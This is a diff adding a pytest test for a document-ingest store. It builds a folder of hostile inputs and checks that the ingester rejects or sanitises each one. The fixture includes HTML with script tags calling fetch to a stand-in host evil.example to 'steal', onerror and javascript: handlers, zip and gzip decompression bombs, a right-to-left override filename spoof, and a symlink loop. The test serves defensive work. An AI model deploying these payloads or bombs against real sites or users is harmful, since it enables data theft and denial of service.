@@ -1,0 +1,120 @@
+"""A folder of hostile files imported in one batch: each is refused with its reason or imported
+cleanly, memory stays bounded, and nothing else in the batch or the store is lost."""
+
+from __future__ import annotations
+
+import gzip
+import os
+import tracemalloc
+import zipfile
+from pathlib import Path
+
+import pytest
+from sqlalchemy import text
+
+from app.store.engine import open_store
+from app.store.ingest import ingest_paths
+from app.store.repositories import FactRepository
+from tests.conftest import SEEDS
+
+HTML = (
+    "<html><head><title>Kenya and Peru</title><script>fetch('http://evil.example/steal')</script></head>"
+    "<body><iframe src='http://evil.example/frame'></iframe>"
+    "<img src='http://evil.example/pixel.png' onerror='steal()'>"
+    '<p onmouseover="steal()">Trade between Kenya and Peru reached US$4 billion in 2020.</p>'
+    '<a href="javascript:steal()">Read more</a></body></html>'
+)
+
+
+def _hostile_folder(root: Path) -> Path:
+    folder = root / "batch"
+    folder.mkdir()
+    (folder / "page.html").write_text(HTML, encoding="utf-8")
+    (folder / "nul.txt").write_bytes(b"Trade between Chile and Egypt reached US$1 billion\x00 in 2020.")
+    (folder / "surrogate.txt").write_bytes(
+        "Trade between Vietnam and Chile reached US$2 billion in 2020. Lương \ud800 Cường.".encode(
+            "utf-8", "surrogatepass"
+        )
+    )
+    (folder / "rtl.txt").write_text(
+        "Trade between Japan and Chile reached US$3 billion in 2020. Read \u202etxt.exe\u202c now.",
+        encoding="utf-8",
+    )
+    (folder / "long-line.txt").write_text(
+        "x" * 10_000 + " Trade between Brazil and Chile reached US$5 billion in 2020. " + "y" * 10_000,
+        encoding="utf-8",
+    )
+    with zipfile.ZipFile(folder / "bomb.txt", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("inner.txt", b"\0" * 100_000_000)  # 100 MB inflated, about 100 kB on disk
+    with gzip.open(folder / "bomb-gz.txt", "wb") as handle:
+        handle.write(b"Trade " * 20_000_000)
+    with open(folder / "huge.txt", "wb") as handle:
+        handle.truncate(200 * 1024 * 1024)  # sparse: 200 MB to stat, nothing on disk
+    (folder / "loop").symlink_to(folder)
+    (folder / "new\nline.txt").write_text("Trade between India and Chile reached US$6 billion in 2020.")
+    with open(os.path.join(os.fsencode(folder), b"bad\xffname.txt"), "wb") as handle:
+        handle.write(b"Trade between Spain and Chile reached US$7 billion in 2020.")
+    return folder
+
+
+def test_a_hostile_batch_loses_nothing(tmp_path: Path, db_url: str) -> None:
+    store = open_store(db_url)
+    assert ingest_paths(store, [SEEDS], workers=1).count("new") == 5
+    folder = _hostile_folder(tmp_path)
+
+    tracemalloc.start()
+    report = ingest_paths(store, [folder], workers=1)
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+
+    assert peak < 40e6, f"{peak / 1e6:.0f} MB traced: a hostile file was read into memory"
+    reasons = {Path(r.path).name: r.reason for r in report.failures}
+    assert reasons == {
+        "bomb.txt": "binary file (a ZIP archive (or a Word/Excel file)), not text",
+        "bomb-gz.txt": "binary file (a gzip archive), not text",
+        "huge.txt": "too large: 209.7 MB (the limit for one article is 20 MB)",
+    }
+    assert report.count("new") == 7
+    names = {Path(r.path).name for r in report.results if r.status == "new"}
+    assert names == {
+        "page.html",
+        "nul.txt",
+        "surrogate.txt",
+        "rtl.txt",
+        "long-line.txt",
+        "new\\nline.txt",
+        "bad\\xffname.txt",
+    }
+
+    with store.engine.connect() as conn:
+        rows = {r.source_name: r for r in conn.execute(text("SELECT source_name, text, warnings FROM articles"))}
+    page = rows["page.html"].text
+    for needle in ("fetch", "evil.example", "steal", "javascript", "onerror", "<"):
+        assert needle not in page
+    assert "Trade between Kenya and Peru reached US$4 billion in 2020." in page
+    assert "\x00" not in rows["nul.txt"].text
+    assert rows["surrogate.txt"].text.endswith("Lương \ufffd Cường.")  # one bad character, not mojibake
+    assert "\u202e" not in rows["rtl.txt"].text
+    assert "2 bidirectional control characters (right-to-left overrides) removed" in rows["rtl.txt"].warnings
+    assert len(rows["long-line.txt"].text) > 20_000
+
+    facts = FactRepository(store).facts(kinds=["trade_total"])
+    by_pair = {(r.country_a, r.country_b): r.value_usd for r in facts.itertuples() if r.year == 2020}
+    assert by_pair[("KEN", "PER")] == 4e9
+    assert by_pair[("BRA", "CHL")] == 5e9
+    assert by_pair[("CHL", "ESP")] == 7e9
+    # The seeds are untouched: the 2019 Vietnam–Mexico total is still there.
+    assert 6.275e9 in FactRepository(store).trade_totals(("VNM", "MEX")).value_usd.tolist()
+
+
+@pytest.mark.parametrize("count", [1, 3])
+def test_a_batch_that_is_all_hostile_stores_nothing(tmp_path: Path, db_url: str, count: int) -> None:
+    folder = tmp_path / "bad"
+    folder.mkdir()
+    for n in range(count):
+        (folder / f"empty{n}.txt").write_bytes(b"")
+    store = open_store(db_url)
+    report = ingest_paths(store, [folder], workers=1)
+    assert [r.reason for r in report.failures] == ["empty file"] * count
+    with store.engine.connect() as conn:
+        assert conn.execute(text("SELECT count(*) FROM articles")).scalar() == 0
